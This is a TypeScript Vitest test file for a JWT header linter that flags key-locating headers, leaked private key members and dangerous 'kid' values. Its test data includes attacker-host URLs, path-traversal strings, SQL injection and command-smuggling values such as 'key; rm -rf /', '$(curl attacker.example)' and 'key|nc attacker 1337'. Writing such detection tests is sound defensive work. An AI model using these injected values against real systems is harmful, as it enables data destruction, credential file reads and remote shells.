import { describe, expect, it } from 'vitest'
import { lintToken } from '#shared/token/lint'
import { compact, find, ids, now } from './tokens'

const claims = { sub: 'u1', aud: 'api', exp: now + 600 }
const lint = (header: object) => lintToken(compact({ alg: 'RS256', typ: 'JWT', ...header }, claims), { now })

describe('lint — key-locating headers', () => {
  it('flags jku and x5u, higher when not https', () => {
    const https = find(lint({ jku: 'https://keys.example.com/jwks.json' }), 'jku-present')
    expect(https?.severity).toBe('medium')
    expect(https?.message).toContain('https://keys.example.com/jwks.json')
    expect(find(lint({ jku: 'http://attacker.example/jwks' }), 'jku-present')?.severity).toBe('high')
    expect(find(lint({ x5u: 'http://attacker.example/cert.pem' }), 'x5u-present')?.message).toMatch(/not https/)
  })

  it('flags an embedded jwk as high, and private members in it separately', () => {
    const publicOnly = lint({ jwk: { kty: 'RSA', n: 'AQAB', e: 'AQAB' } })
    expect(find(publicOnly, 'jwk-embedded')?.severity).toBe('high')
    expect(ids(publicOnly)).not.toContain('jwk-private')
    const leaked = lint({ jwk: { kty: 'EC', crv: 'P-256', x: 'eA', y: 'eQ', d: 'c2VjcmV0LXNjYWxhcg' } })
    const finding = find(leaked, 'jwk-private')!
    expect(finding.severity).toBe('high')
    expect(finding.location?.path).toBe('jwk.d')
    // the private value itself never appears in a finding
    expect(JSON.stringify(leaked)).not.toContain('c2VjcmV0LXNjYWxhcg')
  })

  it('reports x5c as low', () => {
    expect(find(lint({ x5c: ['MIIB', 'MIIC'] }), 'x5c-present')?.message).toMatch(/2 certificates/)
  })

  it.each([
    ['../../../../dev/null', 'kid-path-traversal'],
    ['/etc/passwd', 'kid-path-traversal'],
    ['keys\\..\\..\\secret.pem', 'kid-path-traversal'],
    ['%2e%2e%2fkeys', 'kid-path-traversal'],
    ["x' UNION SELECT 'secret' --", 'kid-injection'],
    ['1 OR 1=1', 'kid-injection'],
    ['key; rm -rf /', 'kid-injection'],
    ['$(curl attacker.example)', 'kid-injection'],
    ['key|nc attacker 1337', 'kid-injection'],
  ])('flags kid %j as %s', (kid, id) => {
    const finding = find(lint({ kid }), id)
    expect(finding?.severity).toBe('high')
    expect(finding?.location).toEqual({ segment: 'header', path: 'kid' })
  })

  it.each([
    '2024-05-01',
    'a1b2c3',
    'NzbLsXh8uDCcd--6MNwXF4W_7noWXFZAfHkxZsRGC9Xs',
    'rsa-key.v2',
    '0c8e9a7e-5f0c-4a57-9b2d-2f3f1e0d9c11',
  ])('leaves the ordinary kid %j alone', (kid) => {
    expect(ids(lint({ kid })).filter((id) => id.startsWith('kid-'))).toEqual([])
  })

  it('shows control characters in a kid instead of printing them raw', () => {
    const finding = find(lint({ kid: 'a\nb; ls' }), 'kid-injection')!
    expect(finding.message).toContain('a\\u000ab; ls')
    expect(finding.message).not.toContain('\n')
  })
})
